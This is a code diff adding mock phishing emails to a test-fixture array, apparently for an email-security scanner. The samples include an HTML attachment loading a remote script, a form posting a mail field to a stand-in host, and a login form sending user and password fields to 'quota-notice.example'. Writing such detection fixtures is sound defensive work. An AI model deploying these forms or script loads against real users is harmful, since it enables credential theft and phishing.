@@ -140,6 +140,24 @@ export const evidenceIncidents: readonly Incident[] = [
     attachments: [{ name: 'storage.html', type: 'text/html', content: Buffer.from('<form><input type="password"></form>') }],
   },
   {
+    id: 'page-loads', hoursAgo: 47.7, to: 11, ip: '203.0.113.127', from: 'Scans <scan@copy-room.example>',
+    subject: 'Scan of twelve pages', text: 'Open the page to see them.',
+    attachments: [{ name: 'scan.html', type: 'text/html', content: Buffer.from('<script src="https://copy-room-cdn.example/v.js"></script>') }],
+  },
+  {
+    id: 'page-form', hoursAgo: 47.8, to: 12, ip: '203.0.113.128', from: 'Payroll survey <form@staff-survey.example>',
+    subject: 'Confirm your details', text: 'Fill in the page.',
+    attachments: [{
+      name: 'details.html', type: 'text/html',
+      content: Buffer.from('<form method="post" action="https://staff-survey.example/in"><input name="mail"></form>'),
+    }],
+  },
+  {
+    id: 'body-login', hoursAgo: 47.9, to: 14, ip: '203.0.113.129', from: 'Mailbox desk <desk@quota-notice.example>',
+    subject: 'Confirm your mailbox', text: 'Confirm it in the form.',
+    html: '<form action="https://quota-notice.example/in"><input name="user"><input type="password" name="word"></form>',
+  },
+  {
     id: 'locked-archive', hoursAgo: 48, to: 56, ip: '203.0.113.121', from: 'Statements <desk@ledger-mail.example>',
     subject: 'Statement of account', text: 'The password: 4471',
     attachments: [{ name: 'statement.zip', type: 'application/zip', content: lockedZip }],
